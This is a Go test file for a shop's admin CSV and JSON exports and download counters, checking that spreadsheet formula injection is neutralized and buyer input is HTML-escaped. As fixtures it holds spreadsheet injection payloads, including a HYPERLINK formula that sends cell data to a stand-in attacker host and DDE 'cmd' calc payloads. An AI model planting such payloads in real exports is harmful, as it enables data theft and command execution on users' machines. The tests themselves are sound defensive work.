package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io"
	"net/http"
	"reflect"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/vend-shop/vend"
	"github.com/vend-shop/vend/report"
	"github.com/vend-shop/vend/store"
)

// formulaName is a buyer's name that a spreadsheet would run as a formula.
const formulaName = `=HYPERLINK("http://evil.example/?d="&A1,"Click")`

// exportEnv is adminEnv plus an order whose buyer's name is a formula.
func exportEnv(t *testing.T, opts ...envOption) (*testEnv, string) {
	t.Helper()
	e := newTestEnv(t, opts...)
	alice := e.addUser("alice", adminPW)
	e.MustPostIPN(sample(t, "p1"))
	s := ebookSim("Completed", "FORMULA0000000001")
	s.FirstName, s.LastName, s.PayerEmail = formulaName, "@SUM(1+1)", "+formula@example.com"
	e.MustPostIPN(simBody(s))
	return e, e.signIn(alice)
}

// csvExport downloads an export and parses it, checking it is an attachment.
func (e *testEnv) csvExport(cookie, path string) [][]string {
	e.tb.Helper()
	a := e.adminRequest(http.MethodGet, path, cookie, nil, nil)
	if a.Status != http.StatusOK {
		e.tb.Fatalf("%s: %d\n%s", path, a.Status, a.Body)
	}
	if ct := a.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		e.tb.Errorf("%s: Content-Type %q", path, ct)
	}
	if cd := a.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="vend-`) || !strings.HasSuffix(cd, `.csv"`) {
		e.tb.Errorf("%s: Content-Disposition %q", path, cd)
	}
	records, err := csv.NewReader(strings.NewReader(a.Body)).ReadAll()
	if err != nil {
		e.tb.Fatalf("%s: not CSV: %v\n%s", path, err, a.Body)
	}
	return records
}

// column returns the named column of every record but the header.
func column(tb testing.TB, records [][]string, name string) []string {
	tb.Helper()
	i := -1
	for j, h := range records[0] {
		if h == name {
			i = j
		}
	}
	if i < 0 {
		tb.Fatalf("no column %q in %v", name, records[0])
	}
	var out []string
	for _, r := range records[1:] {
		out = append(out, r[i])
	}
	return out
}

// byColumn returns the record whose column name is value.
func byColumn(tb testing.TB, records [][]string, name, value string) map[string]string {
	tb.Helper()
	for k, v := range column(tb, records, name) {
		if v == value {
			m := map[string]string{}
			for j, h := range records[0] {
				m[h] = records[k+1][j]
			}
			return m
		}
	}
	tb.Fatalf("no record with %s %q", name, value)
	return nil
}

func TestAdminExport_NeedsASignIn(t *testing.T) {
	t.Parallel()
	e, _ := exportEnv(t)
	for _, path := range []string{"/admin/export/orders.csv", "/admin/export/transactions.csv", "/admin/export/attempts.csv", "/admin/counters"} {
		a := e.adminRequest(http.MethodGet, path, "", nil, nil)
		if a.Status != http.StatusSeeOther || !strings.HasPrefix(a.Header.Get("Location"), "/admin/login") || strings.Contains(a.Body, "example.com") {
			t.Errorf("%s without a session: %d %q\n%s", path, a.Status, a.Header.Get("Location"), a.Body)
		}
		a = e.adminRequest(http.MethodGet, path, "forged-session", nil, nil)
		if a.Status != http.StatusSeeOther {
			t.Errorf("%s with a forged session: %d", path, a.Status)
		}
	}
}

func TestAdminExport_Orders(t *testing.T) {
	t.Parallel()
	e, cookie := exportEnv(t)
	records := e.csvExport(cookie, "/admin/export/orders.csv")
	wantHeader := []string{"id", "created_at_utc", "provider", "ref", "status", "status_reason", "review", "test",
		"buyer_email", "buyer_name", "currency", "total", "products", "custom", "updated_at_utc", "deleted"}
	if !reflect.DeepEqual(records[0], wantHeader) {
		t.Errorf("header %q", records[0])
	}
	if got := column(t, records, "ref"); !reflect.DeepEqual(got, []string{"FORMULA0000000001", p1Txn}) {
		t.Fatalf("refs %v, want the two orders, newest first", got)
	}
	p1 := byColumn(t, records, "ref", p1Txn)
	o := e.Order(p1Txn)
	want := map[string]string{"id": fmt.Sprint(o.ID), "created_at_utc": o.CreatedAt.UTC().Format(time.DateTime), "provider": "paypal",
		"ref": p1Txn, "status": "paid", "status_reason": "", "review": "false", "test": "true", "buyer_email": "buyer@example.com",
		"buyer_name": "Jörg Müller", "currency": "USD", "total": "19.95", "products": "EBOOK-001", "custom": o.Custom,
		"updated_at_utc": o.UpdatedAt.UTC().Format(time.DateTime), "deleted": "false"}
	if !reflect.DeepEqual(p1, want) {
		t.Errorf("P1:\n got %v\nwant %v", p1, want)
	}
	// A formula in what a buyer typed stays text in a spreadsheet.
	f := byColumn(t, records, "ref", "FORMULA0000000001")
	if f["buyer_name"] != "'"+formulaName+" @SUM(1+1)" || f["buyer_email"] != "'+formula@example.com" {
		t.Errorf("the formula is not neutralized: name %q, email %q", f["buyer_name"], f["buyer_email"])
	}
	for _, tt := range []struct{ query, want string }{
		{"?q=FORMULA0000000001", "FORMULA0000000001"},
		{"?q=%2Bformula", "FORMULA0000000001"},
		{"?q=" + p1Txn, p1Txn},
		{"?product=EBOOK-001&status=paid&provider=paypal", "FORMULA0000000001 " + p1Txn},
		{"?status=refunded", ""},
		{"?from=2025-03-03&to=2025-03-03", "FORMULA0000000001 " + p1Txn},
		{"?to=2025-03-02", ""},
	} {
		got := strings.Join(column(t, e.csvExport(cookie, "/admin/export/orders.csv"+tt.query), "ref"), " ")
		if got != tt.want {
			t.Errorf("%s: %q, want %q", tt.query, got, tt.want)
		}
	}
	if a := e.adminRequest(http.MethodGet, "/admin/export/orders.csv?from=yesterday", cookie, nil, nil); a.Status != http.StatusBadRequest {
		t.Errorf("a bad date: %d", a.Status)
	}
}

func TestAdminExport_Transactions(t *testing.T) {
	t.Parallel()
	e, cookie := exportEnv(t)
	e.Clock.Add(time.Hour)
	e.MustPostIPN(simBody(reversalSim("Refunded", "REFUND00000000001", "FORMULA0000000001", 1995)))
	records := e.csvExport(cookie, "/admin/export/transactions.csv")
	wantHeader := []string{"id", "created_at_utc", "order_id", "provider", "txn_id", "parent_txn_id", "order_ref", "product_id",
		"kind", "full_refund", "status", "raw_status", "reason", "amount", "currency", "updated_at_utc"}
	if !reflect.DeepEqual(records[0], wantHeader) {
		t.Errorf("header %q", records[0])
	}
	if got := column(t, records, "txn_id"); !reflect.DeepEqual(got, []string{p1Txn, "FORMULA0000000001", "REFUND00000000001"}) {
		t.Fatalf("transactions %v, want all three, oldest first", got)
	}
	refund := byColumn(t, records, "txn_id", "REFUND00000000001")
	o := e.Order("FORMULA0000000001")
	if refund["kind"] != "refund" || refund["parent_txn_id"] != "FORMULA0000000001" || refund["order_id"] != fmt.Sprint(o.ID) ||
		refund["status"] != "completed" || refund["currency"] != "USD" {
		t.Errorf("refund %v", refund)
	}
	// A negative amount is a number, not a formula: it stays as it is.
	if refund["amount"] != "-19.95" {
		t.Errorf("refund amount %q, want -19.95", refund["amount"])
	}
	if got := column(t, e.csvExport(cookie, "/admin/export/transactions.csv?from=2025-03-04"), "txn_id"); len(got) != 0 {
		t.Errorf("from tomorrow: %v", got)
	}
	if got := column(t, e.csvExport(cookie, "/admin/export/transactions.csv?from=2025-03-03&to=2025-03-03"), "txn_id"); len(got) != 3 {
		t.Errorf("today: %v", got)
	}
	if a := e.adminRequest(http.MethodGet, "/admin/export/transactions.csv?status=paid", cookie, nil, nil); a.Status != http.StatusBadRequest {
		t.Errorf("an order filter on transactions: %d", a.Status)
	}
}

// download gets a grant's file and waits until its attempt is written: the
// server records it after the last byte went out, which can be after the
// client has read it.
func (e *testEnv) download(g *vend.Grant) {
	e.tb.Helper()
	if a := e.Get(e.FilePath(g)); a.Status != http.StatusOK {
		e.tb.Fatalf("download: %d", a.Status)
	}
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		e.Flush()
		var n int
		e.view(func(ctx context.Context, tx store.Tx) error {
			as, err := tx.FindAttempts(ctx, store.AttemptFilter{GrantID: &g.ID})
			for _, a := range as {
				if a.Counted {
					n++
				}
			}
			return err
		})
		if n > 0 {
			return
		}
		if time.Now().After(deadline) {
			e.tb.Fatal("the download's attempt was never written")
		}
	}
}

// manyAttempts records n attempts on grant g, one a second from start, each
// with a user agent that is a formula.
func (e *testEnv) manyAttempts(g *vend.Grant, n int, start time.Time) {
	e.tb.Helper()
	as := make([]*vend.Attempt, n)
	for i := range as {
		as[i] = &vend.Attempt{GrantID: g.ID, FileID: 1, At: start.Add(time.Duration(i) * time.Second), IP: "192.0.2.7",
			UserAgent: fmt.Sprintf("=cmd|' /C calc'!A%d", i), Method: "GET", Status: 200, BytesSent: int64(i)}
	}
	e.update(func(ctx context.Context, tx store.Tx) error { return tx.CreateAttempts(ctx, as) })
}

func TestAdminExport_Attempts(t *testing.T) {
	t.Parallel()
	e, cookie := exportEnv(t)
	g := e.Order(p1Txn).grant("EBOOK-001")
	e.download(g)
	records := e.csvExport(cookie, "/admin/export/attempts.csv")
	wantHeader := []string{"id", "at_utc", "grant_id", "file_id", "session_id", "ip", "method", "range", "status", "bytes_sent",
		"counted", "refused", "user_agent"}
	if !reflect.DeepEqual(records[0], wantHeader) {
		t.Errorf("header %q", records[0])
	}
	if len(records) != 2 {
		t.Fatalf("%d attempts, want 1:\n%v", len(records)-1, records)
	}
	a := byColumn(t, records, "grant_id", fmt.Sprint(g.ID))
	if a["ip"] != "127.0.0.1" || a["method"] != "GET" || a["status"] != "200" || a["counted"] != "true" || a["session_id"] == "" ||
		a["at_utc"] != testEpoch.Format(time.DateTime) {
		t.Errorf("attempt %v", a)
	}

	t.Run("more than one page, streamed in order", func(t *testing.T) {
		n := 2*report.ExportPage + 345
		start := testEpoch.Add(-48 * time.Hour)
		e.manyAttempts(g, n, start)
		records := e.csvExport(cookie, "/admin/export/attempts.csv")
		if len(records)-1 != n+1 {
			t.Fatalf("%d attempts exported, want %d", len(records)-1, n+1)
		}
		agents := column(t, records, "user_agent")
		for i := range n {
			if want := fmt.Sprintf("'=cmd|' /C calc'!A%d", i); agents[i] != want {
				t.Fatalf("attempt %d: user agent %q, want %q", i, agents[i], want)
			}
		}
		ats := column(t, records, "at_utc")
		if ats[0] != start.Format(time.DateTime) || ats[n] != testEpoch.Format(time.DateTime) {
			t.Errorf("first at %s, last at %s", ats[0], ats[n])
		}
		day := e.csvExport(cookie, "/admin/export/attempts.csv?from=2025-03-01&to=2025-03-01")
		if got := len(day) - 1; got != n {
			t.Errorf("the day of the many: %d attempts, want %d", got, n)
		}
		if got := len(e.csvExport(cookie, "/admin/export/attempts.csv?from=2025-03-02")) - 1; got != 1 {
			t.Errorf("from the next day: %d attempts, want 1", got)
		}
	})
}

func TestWriteExport_JSONLines(t *testing.T) {
	t.Parallel()
	e, _ := exportEnv(t)
	var buf bytes.Buffer
	q, err := report.ParseExportQuery(report.ExportOrders, map[string][]string{"q": {"FORMULA0000000001"}})
	if err != nil {
		t.Fatal(err)
	}
	q.JSON = true
	if err := report.WriteExport(context.Background(), e.DB, &buf, q, e.Clock.Now()); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	var o vend.Order
	if err := json.Unmarshal([]byte(lines[0]), &o); err != nil || len(lines) != 1 {
		t.Fatalf("not one JSON line (%v):\n%s", err, buf.String())
	}
	if o.Buyer.Name != formulaName+" @SUM(1+1)" || len(o.Items) != 1 || o.Items[0].ProductID != "EBOOK-001" {
		t.Errorf("JSON has the name as it is, and the items: %+v", o)
	}
	if _, err := report.ParseExportQuery("grants", nil); vend.ErrorCode(err) != vend.EINVALID {
		t.Errorf("an unknown kind: %v", err)
	}
}

// failingDB fails every View from the failAt-th one on (0: never).
type failingDB struct {
	store.DB
	views, failAt atomic.Int32
}

var errDBGone = errors.New("database gone")

func (f *failingDB) View(ctx context.Context, fn func(tx store.Tx) error) error {
	if n := f.views.Add(1); f.failAt.Load() > 0 && n >= f.failAt.Load() {
		return errDBGone
	}
	return f.DB.View(ctx, fn)
}

func TestAdminExport_Failure(t *testing.T) {
	t.Parallel()
	var fail *failingDB
	e, cookie := exportEnv(t, func(s *Server) { fail = &failingDB{DB: s.DB}; s.DB = fail })
	e.manyAttempts(e.Order(p1Txn).grant("EBOOK-001"), report.ExportPage+10, testEpoch.Add(-time.Hour))

	t.Run("before the first page: an error page", func(t *testing.T) {
		fail.views.Store(0)
		fail.failAt.Store(2) // the session check is the first View
		a := e.adminRequest(http.MethodGet, "/admin/export/attempts.csv", cookie, nil, nil)
		if a.Status != http.StatusInternalServerError || a.Header.Get("Content-Disposition") != "" || strings.Contains(a.Body, "database gone") {
			t.Errorf("%d %q\n%s", a.Status, a.Header.Get("Content-Disposition"), a.Body)
		}
	})
	t.Run("after it: the download breaks off", func(t *testing.T) {
		fail.views.Store(0)
		fail.failAt.Store(3)
		req, _ := http.NewRequest(http.MethodGet, e.HTTP.URL+"/admin/export/attempts.csv", nil)
		req.AddCookie(&http.Cookie{Name: adminCookie, Value: cookie})
		resp, err := e.client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK || err == nil {
			t.Errorf("status %d, read error %v: a broken export must not look complete", resp.StatusCode, err)
		}
		if n := strings.Count(string(body), "\n"); n != report.ExportPage+1 {
			t.Errorf("%d lines before the break, want the header and the first page", n)
		}
	})
	fail.failAt.Store(0)
}

func TestAdminCounters(t *testing.T) {
	t.Parallel()
	e, cookie := exportEnv(t)
	p1 := e.Order(p1Txn).grant("EBOOK-001")
	f := e.Order("FORMULA0000000001").grant("EBOOK-001")
	// buyer@example.com: one download and 5 more attempts; the formula buyer: 3,
	// the latest of all, and one of 40 days ago.
	e.download(p1)
	e.manyAttempts(p1, 5, testEpoch.Add(-time.Hour))
	e.manyAttempts(f, 3, testEpoch.Add(time.Minute))
	e.manyAttempts(f, 1, testEpoch.Add(-40*24*time.Hour))
	get := func(query string) string {
		t.Helper()
		a := e.adminRequest(http.MethodGet, "/admin/counters"+query, cookie, nil, nil)
		if a.Status != http.StatusOK {
			t.Fatalf("%s: %d\n%s", query, a.Status, a.Body)
		}
		return a.Body
	}
	rows := func(body, table string) []string {
		t.Helper()
		i := strings.Index(body, "<h2>"+table+"</h2>")
		if i < 0 {
			t.Fatalf("no table %q", table)
		}
		body = body[i:]
		body = body[strings.Index(body, "<tbody>"):strings.Index(body, "</tbody>")]
		var out []string
		for _, tr := range strings.Split(body, "<tr>")[1:] {
			var cells []string
			for _, td := range strings.Split(tr, "<td")[1:] {
				td = td[strings.Index(td, ">")+1 : strings.Index(td, "</td>")] // after the cell's data-label
				if j := strings.Index(td, "<div"); j >= 0 {
					td = td[:j]
				}
				if j := strings.Index(td, `">`); strings.HasPrefix(td, "<a ") && j >= 0 {
					td = strings.TrimSuffix(td[j+2:], "</a>")
				}
				cells = append(cells, td)
			}
			out = append(out, html.UnescapeString(strings.Join(cells, " ")))
		}
		return out
	}
	buyer, formula := "buyer@example.com 6 1 2025-03-03 18:15", "+formula@example.com 3 0 2025-03-03 18:16"
	// The default period is 7 days; the attempt of 40 days ago is in 90.
	for _, tt := range []struct {
		query string
		want  []string
	}{
		{"", []string{buyer, formula}},
		{"?sort=attempts", []string{buyer, formula}},
		{"?sort=downloads", []string{buyer, formula}},
		{"?sort=last", []string{formula, buyer}},
		{"?sort=email", []string{formula, buyer}},
		{"?sort=last&days=30", []string{formula, buyer}},
		{"?sort=last&days=90", []string{"+formula@example.com 4 0 2025-03-03 18:16", buyer}},
	} {
		if got := rows(get(tt.query), "Attempts per buyer"); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("buyers %s:\n got %q\nwant %q", tt.query, got, tt.want)
		}
	}
	// Completed downloads per product; the other products of the catalog show zeros.
	body := get("?psort=attempts")
	products := rows(body, "Downloads per product")
	if len(products) != len(catalogProducts) || products[0] != "EBOOK-001 1 1 9" {
		t.Errorf("products by attempts: %q", products)
	}
	if got := rows(get("?psort=product"), "Downloads per product"); got[0] != "AUDIO-002 0 0 0" {
		t.Errorf("products by id: %q", got)
	}
	if !strings.Contains(body, `aria-sort="descending"><a href="/admin/counters?days=7&amp;psort=attempts&amp;sort=attempts">Attempts</a>`) {
		t.Error("the sorted column is not marked")
	}
	if strings.Contains(body, "<script>") || !strings.Contains(get("?sort=email"), "=HYPERLINK(&#34;http://evil.example") {
		t.Error("a buyer's name is not escaped as text")
	}
	for _, bad := range []string{"?days=0", "?days=93", "?days=x", "?sort=name", "?psort=price"} {
		if a := e.adminRequest(http.MethodGet, "/admin/counters"+bad, cookie, nil, nil); a.Status != http.StatusBadRequest {
			t.Errorf("%s: %d", bad, a.Status)
		}
	}
}

// TestAdminExport_SemicolonLocale exports an order whose buyer named
// themselves `ok;=cmd|' /C calc'!A0`: German Excel opens a CSV file with ';'
// as its separator, where the unquoted name used to become the cells "ok" and
// a formula. Read with either separator, no cell of the file starts like a
// formula unless it is a plain number.
func TestAdminExport_SemicolonLocale(t *testing.T) {
	t.Parallel()
	const name = `ok;=cmd|' /C calc'!A0`
	e := newTestEnv(t)
	cookie := e.signIn(e.addUser("alice", adminPW))
	s := ebookSim("Completed", "SEMICOLON00000001")
	s.FirstName, s.LastName, s.Custom = name, "Doe,@SUM(1+1)", "note;-2+3"
	e.MustPostIPN(simBody(s))
	e.MustPostIPN(simBody(reversalSim("Refunded", "SEMICOLON00000002", "SEMICOLON00000001", -1995)))

	records := e.csvExport(cookie, "/admin/export/orders.csv")
	o := byColumn(t, records, "ref", "SEMICOLON00000001")
	if want := `ok;'=cmd|' /C calc'!A0 Doe,'@SUM(1+1)`; o["buyer_name"] != want || o["custom"] != "note;'-2+3" {
		t.Errorf("buyer_name %q, custom %q; want %q and %q", o["buyer_name"], o["custom"], want, "note;'-2+3")
	}
	a := e.adminRequest(http.MethodGet, "/admin/export/transactions.csv", cookie, nil, nil)
	if !strings.Contains(a.Body, ",-19.95,") {
		t.Errorf("the refund's amount is not the number -19.95:\n%s", a.Body)
	}
	for _, path := range []string{"/admin/export/orders.csv", "/admin/export/transactions.csv"} {
		body := e.adminRequest(http.MethodGet, path, cookie, nil, nil).Body
		for _, sep := range []rune{',', ';'} {
			r := csv.NewReader(strings.NewReader(body))
			r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatalf("%s read with %q: %v", path, sep, err)
			}
			for _, row := range rows {
				for _, c := range row {
					if formulaLike(c) {
						t.Errorf("%s read with %q: the cell %q is a formula", path, sep, c)
					}
				}
			}
		}
	}
}

// formulaLike reports whether a spreadsheet would run cell as a formula: it
// starts with =, +, -, @ or a tab or line break and is not a plain number.
func formulaLike(cell string) bool {
	if cell == "" || !strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
		return false
	}
	_, err := strconv.ParseFloat(cell, 64)
	return err != nil
}
